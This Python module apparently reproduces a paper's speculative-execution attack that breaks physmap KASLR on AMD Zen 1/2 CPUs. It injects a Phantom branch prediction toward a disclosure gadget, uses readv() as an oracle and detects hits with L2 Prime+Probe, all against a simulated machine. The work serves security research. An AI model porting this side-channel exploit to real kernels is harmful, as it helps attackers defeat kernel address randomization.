"""Exploit 2: derandomizing physmap KASLR with P2 (paper §7.2).

physmap is mapped non-executable, so the P1 fetch probe stays silent.
On Zen 1/2 the phantom window executes a single load: injecting a jmp*
prediction at ``__fdget_pos``'s call (Listing 2) toward the disclosure
gadget ``mov r12, [r12+0xbe0]`` (Listing 3) turns ``readv()`` into an
oracle for "is this kernel address mapped?" — R12 carries the second
syscall argument by the time the call site is reached.

Detection uses Prime+Probe on L2 with a 2 MiB huge page: the probed
physical line's L2 set is known because the attacker chooses the
physical offset X inside the candidate physmap.

Candidates are scanned in ascending order; the first signalling
candidate is the base (higher candidates inside the direct map alias
the same L2 set at shifted physical addresses).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import ClassVar

from ..kernel import Kaslr, MachineSpec, SYS_READV
from ..kernel.layout import reference_offsets
from ..runner import JobContext, JobSpec, derive_seed
from ..sidechannel import PrimeProbeL2
from .experiment import chunked
from .primitives import P2MappedMemory, PhantomInjector
from .results import hexaddr

#: Physical offset probed inside each candidate physmap (an arbitrary
#: always-backed low physical address; its line fixes the L2 set).
PROBE_PHYS_OFFSET = 0x4_C240


@dataclass
class PhysmapResult:
    """Outcome of one physmap derandomization run."""

    guessed_base: int | None
    seconds: float
    candidates_scanned: int

    def correct(self, kaslr: Kaslr) -> bool:
        return self.guessed_base == kaslr.physmap_base

    def to_dict(self) -> dict:
        return {"guessed_physmap": hexaddr(self.guessed_base),
                "candidates_scanned": self.candidates_scanned,
                "simulated_ms": self.seconds * 1000}


def break_physmap_kaslr(machine, image_base: int, *,
                        verify_rounds: int = 3, min_hits: int = 2,
                        candidates=None) -> PhysmapResult:
    """Run the full §7.2 exploit.  Needs the kernel image base (from
    exploit 1) for the call-site and gadget addresses.

    *candidates* restricts the ascending scan to one chunk (the
    parallel campaign's unit); the default scans all 25 600 slots with
    early exit at the first verified hit.
    """
    if not machine.uarch.phantom_reaches_execute:
        raise ValueError(
            f"{machine.uarch.name}: phantom window does not reach "
            f"execute; P2 requires Zen 1/2")
    offsets = reference_offsets()
    call_site = image_base + offsets["fdget_call_site"]
    gadget = image_base + offsets["physmap_gadget"]

    injector = PhantomInjector(machine)
    pp = PrimeProbeL2(machine)
    p2 = P2MappedMemory(machine, injector=injector, pp=pp)
    l2_set = PrimeProbeL2.set_of_phys(PROBE_PHYS_OFFSET)
    start = machine.seconds()

    def run_victim(rsi: int) -> None:
        machine.syscall(SYS_READV, 3, rsi)

    def probe(candidate: int) -> bool:
        target = candidate + PROBE_PHYS_OFFSET
        misses = 0
        pp.prime(l2_set)
        injector.inject(call_site, gadget)
        run_victim(target - P2MappedMemory.GADGET_DISPLACEMENT)
        return pp.probe_misses(l2_set) > 0

    if candidates is None:
        candidates = Kaslr.physmap_candidates()
    for scanned, candidate in enumerate(candidates, 1):
        if not probe(candidate):
            continue
        hits = sum(probe(candidate) for _ in range(verify_rounds))
        if hits >= min_hits:
            return PhysmapResult(guessed_base=candidate,
                                 seconds=machine.seconds() - start,
                                 candidates_scanned=scanned)
    return PhysmapResult(guessed_base=None,
                         seconds=machine.seconds() - start,
                         candidates_scanned=len(candidates))


@dataclass(frozen=True)
class PhysmapExperiment:
    """The §7.2 campaign: the 25 600 slots in fixed ascending chunks.

    Each chunk scans on a fresh machine and early-exits at its first
    verified hit; the reduce step takes the hit from the lowest chunk —
    the same candidate the serial ascending scan stops at (higher
    candidates alias the same L2 set, so only the *first* hit is the
    base).  ``candidates_scanned`` is summed over all chunks: it counts
    total probe work, which — unlike the serial early-exit count — is
    identical at any ``--jobs``.
    """

    name: ClassVar[str] = "kaslr-physmap"

    machine: MachineSpec
    image_base: int
    verify_rounds: int = 3
    min_hits: int = 2
    chunk_candidates: int = 1600        # 25600 slots -> 16 chunks

    def campaign_config(self) -> dict:
        return {"uarch": self.machine.uarch,
                "kaslr_seed": self.machine.kaslr_seed,
                "image_base": f"{self.image_base:#x}",
                "candidates": len(Kaslr.physmap_candidates())}

    def job_specs(self) -> list[JobSpec]:
        total = len(Kaslr.physmap_candidates())
        return [JobSpec.make(self.name, (index,),
                             derive_seed(self.machine.kaslr_seed, (index,)),
                             machine=self.machine, start=start, stop=stop)
                for index, start, stop in chunked(total,
                                                  self.chunk_candidates)]

    def run_one(self, spec: JobSpec, ctx: JobContext) -> PhysmapResult:
        machine = ctx.boot(spec.machine)
        chunk = Kaslr.physmap_candidates()[spec.param("start"):
                                           spec.param("stop")]
        return break_physmap_kaslr(machine, self.image_base,
                                   verify_rounds=self.verify_rounds,
                                   min_hits=self.min_hits,
                                   candidates=chunk)

    def reduce(self, results) -> PhysmapResult:
        chunks = [r.value for r in results if r.ok]
        guessed = next((c.guessed_base for c in chunks
                        if c.guessed_base is not None), None)
        return PhysmapResult(
            guessed_base=guessed,
            seconds=sum(c.seconds for c in chunks),
            candidates_scanned=sum(c.candidates_scanned for c in chunks))
